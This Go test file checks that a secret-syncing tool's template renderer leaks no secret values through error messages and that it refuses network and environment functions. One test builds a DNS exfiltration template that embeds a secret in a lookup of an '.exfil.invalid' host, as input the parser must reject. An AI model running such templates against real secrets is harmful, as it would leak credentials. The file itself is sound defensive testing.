package render_test

import (
	"context"
	"reflect"
	"sort"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/secretsync/secretsync/render"
)

// Two canaries of the same shape: an error that differs between them, or
// holds either, carries a value.
const (
	canaryA = "LEAKCANARY-q7Zx{(unclosed"
	canaryB = "MEAKCANARY-r8Yw{(unclosed"
)

func checkRedacted(t *testing.T, name, body string) {
	t.Helper()
	_, errA := render.Execute(context.Background(), name, body, map[string]string{"v": canaryA})
	_, errB := render.Execute(context.Background(), name, body, map[string]string{"v": canaryB})
	for _, err := range []error{errA, errB} {
		if err != nil && strings.Contains(err.Error(), "EAKCANARY") {
			t.Fatalf("%s: the error holds the value", body)
		}
	}
	if errA != nil && errB != nil && errA.Error() != errB.Error() {
		t.Fatalf("%s: the error depends on the value: %q vs %q", body, redactCanary(errA.Error()), redactCanary(errB.Error()))
	}
}

// redactCanary masks the two canaries' differing letters, so a failure
// message shows where a value leaked without repeating it.
func redactCanary(s string) string {
	return strings.NewReplacer("L", "?", "M", "?", "q7Zx", "????", "r8Yw", "????").Replace(s)
}

func TestTemplateErrorsCarryNoValue(t *testing.T) {
	funcs := render.TemplateFuncs()
	names := make([]string, 0, len(funcs))
	for n := range funcs {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, fn := range names {
		typ := reflect.TypeOf(funcs[fn])
		// Call it with the value in every argument, alone and piped, so
		// that each function meets the canary.
		args := strings.TrimSpace(strings.Repeat(".v ", typ.NumIn()))
		bodies := []string{"{{ " + fn + " " + args + " }}"}
		if typ.NumIn() > 0 {
			bodies = append(bodies, "{{ .v | "+fn+" "+strings.TrimSpace(strings.Repeat(".v ", typ.NumIn()-1))+" }}",
				"{{ "+fn+" "+strings.TrimSpace(strings.Repeat(`"a" `, typ.NumIn()-1))+" .v }}")
		}
		t.Run(fn+" fails without quoting its input", func(t *testing.T) {
			for _, b := range bodies {
				checkRedacted(t, "data.k", b)
			}
		})
	}
	t.Run("the reported leaks from the safety review stay closed", func(t *testing.T) {
		for _, b := range []string{`{{ mustRegexMatch .v "a" }}`, `{{ mustToDate "2006" .v }}`, `{{ fromJson .v }}`,
			`{{ index (fromYaml .v) "a" }}`, `{{ .v.x }}`, `{{ index .v 99 }}`, `{{ b64dec .v }}`, `{{ pkcs12key .v }}`} {
			checkRedacted(t, "data.k", b)
		}
	})
	t.Run("a failure whose place moves with the value says nothing of the place", func(t *testing.T) {
		// Each branch fails on its own line, column and node: which one ran
		// is one letter of the value.
		for _, b := range []string{
			"{{ if hasPrefix \"L\" .v }}\n{{ mustRegexMatch .v \"a\" }}{{ else }}{{ mustRegexMatch .v \"a\" }}{{ end }}",
			`{{ if hasPrefix "L" .v }}{{ index .v 99 }}{{ else }}{{ index .v 98 }}{{ end }}`,
		} {
			checkRedacted(t, "data.k", b)
		}
	})
	t.Run("a failure still names the template and the function", func(t *testing.T) {
		_, err := render.Execute(context.Background(), "data.k", "x\n{{ mustRegexMatch .v \"a\" }}", map[string]string{"v": canaryA})
		if err == nil || !strings.Contains(err.Error(), "template data.k: ") || !strings.Contains(err.Error(), "function mustRegexMatch failed") {
			t.Fatalf("err = %v", err)
		}
	})
}

func TestNetworkAndEnvironmentFunctionsAreRefused(t *testing.T) {
	for _, fn := range []string{"getHostByName", "env", "expandenv"} {
		t.Run(fn+" is refused by name", func(t *testing.T) {
			_, err := render.ParseTemplate("data.k", `{{ `+fn+` (printf "%s.exfil.invalid" .v) }}`)
			if err == nil || !strings.Contains(err.Error(), "function "+fn+" is not allowed") {
				t.Fatalf("err = %v", err)
			}
		})
	}
}

// TestFailQuotesOnlyStaticTemplateText: fail is allowed, as in ESO; its
// message is reported only when it is a literal of the template, the same
// in every fail the template calls (so it cannot tell which branch ran);
// a message built at run time, from a value or not, is withheld.
func TestFailQuotesOnlyStaticTemplateText(t *testing.T) {
	t.Run("a literal message is reported", func(t *testing.T) {
		for _, body := range []string{`{{ if .v }}{{ fail "password is required" }}{{ end }}`,
			`{{ if eq .v "x" }}{{ fail "password is required" }}{{ else }}{{ fail "password is required" }}{{ end }}`} {
			_, err := render.Execute(context.Background(), "data.k", body, map[string]string{"v": canaryA})
			if err == nil || err.Error() != `template data.k: the template called fail: "password is required"` {
				t.Fatalf("%s: err = %v", body, err)
			}
		}
	})
	for _, body := range []string{
		`{{ fail .v }}`,
		`{{ .v | fail }}`,
		`{{ fail (printf "bad value %s" .v) }}`,
		`{{ fail (print "static" "text") }}`,
		`{{ fail (.v | trunc 4) }}`,
		`{{ if hasPrefix "L" .v }}{{ fail "first branch" }}{{ else }}{{ fail "second branch" }}{{ end }}`,
		`{{ define "t" }}{{ fail . }}{{ end }}{{ fail "static" }}{{ template "t" .v }}`,
		`{{ if hasPrefix "L" .v }}{{ fail "static" }}{{ else }}{{ fail .v }}{{ end }}`,
	} {
		t.Run("a message that is not one literal is withheld: "+body, func(t *testing.T) {
			checkRedacted(t, "data.k", body)
			for _, v := range []string{canaryA, canaryB} {
				_, err := render.Execute(context.Background(), "data.k", body, map[string]string{"v": v})
				if err == nil || err.Error() != "template data.k: the template called fail (its message is withheld: it is not one literal of the template)" {
					t.Fatalf("err = %v", err)
				}
			}
		})
	}
}

// FuzzTemplateExecute runs seed templates over two canaries of one shape
// (the second is the first with each letter and digit shifted by one, so
// the same length, classes and punctuation): when both fail, the two
// errors are the same text, so neither depends on the value (text the
// template itself holds, which an error may quote, is the same in both);
// when only one fails (a template can branch on the value), its error holds
// no 8-byte piece of its canary that the shift changes and the template's
// text does not hold.
func FuzzTemplateExecute(f *testing.F) {
	f.Add(`{{ mustRegexMatch .v "a" }}`, canaryA)
	f.Add(`{{ fromJson .v }}`, `{"a":`)
	f.Add(`{{ mustToDate "2006" .v }}`, "LEAK-2006x")
	f.Add(`{{ (fromYaml .v).a.b }}`, "a: [unclosed")
	f.Add(`{{ index .v 3 }}`, "secretvalue")
	f.Add(`{{ b64dec .v | fromJson }}`, "bm90LWpzb24=")
	f.Add(`{{ if eq .v "LEAKCANARY" }}{{ index .v 99 }}{{ end }}`, "LEAKCANARY")
	f.Add(`{{ .v | sha256sum | trunc 8 | mustToDate "2006" }}`, "anyvalue-1")
	f.Add("{{A0000000", "0000000 ")
	f.Add(`{{ if hasPrefix "L" .v }}{{ fail "one" }}{{ else }}{{ fail "two" }}{{ end }}`, "LEAKCANARY")
	f.Add(`{{ fail (printf "%s!" .v) }}`, "LEAKCANARY")
	f.Fuzz(func(t *testing.T, body, a string) {
		if len(a) < 8 || !utf8.ValidString(a) {
			return
		}
		b := shifted(a)
		_, errA := render.Execute(context.Background(), "data.k", body, map[string]string{"v": a})
		_, errB := render.Execute(context.Background(), "data.k", body, map[string]string{"v": b})
		switch {
		case errA != nil && errB != nil:
			if errA.Error() != errB.Error() {
				t.Fatalf("the error depends on the value (%d and %d bytes of error text)", len(errA.Error()), len(errB.Error()))
			}
		case errA != nil:
			if i := leakedPiece(errA.Error(), body, a, b); i >= 0 {
				t.Fatalf("the error holds bytes %d-%d of its canary", i, i+8)
			}
		case errB != nil:
			if i := leakedPiece(errB.Error(), body, b, a); i >= 0 {
				t.Fatalf("the error holds bytes %d-%d of its canary", i, i+8)
			}
		}
	})
}

// shifted is s with each ASCII letter and digit moved one on in its class.
func shifted(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+1)%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+1)%26
		case r >= '0' && r <= '9':
			return '0' + (r-'0'+1)%10
		}
		return r
	}, s)
}

// leakedPiece is the offset of the first 8-byte piece of canary that msg
// holds, that differs from other's piece there and that body does not hold;
// or -1.
func leakedPiece(msg, body, canary, other string) int {
	for i := 0; i+8 <= len(canary); i++ {
		if p := canary[i : i+8]; p != other[i:i+8] && strings.Contains(msg, p) && !strings.Contains(body, p) {
			return i
		}
	}
	return -1
}
